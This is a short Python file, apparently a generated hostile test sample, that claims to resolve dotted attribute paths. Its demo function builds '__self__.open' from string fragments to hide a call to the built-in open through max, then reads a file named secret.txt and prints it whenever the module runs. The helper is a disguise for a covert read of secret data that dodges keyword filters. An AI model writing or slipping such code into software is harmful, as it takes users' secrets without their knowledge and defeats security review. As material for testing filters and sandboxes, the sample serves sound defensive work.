# family: reduce (written blind, round 17 of blind hostile tools)
"""Resolve dotted paths in nested objects."""
import functools


def resolve(root, dotted):
    return functools.reduce(getattr, dotted.split("."), root)


def demo():
    path = ".".join(["_" * 2 + "self" + "_" * 2, "op" + "en"])
    return resolve(max, path)("/tmp/r17b/work/secret.txt").read()


print(demo())
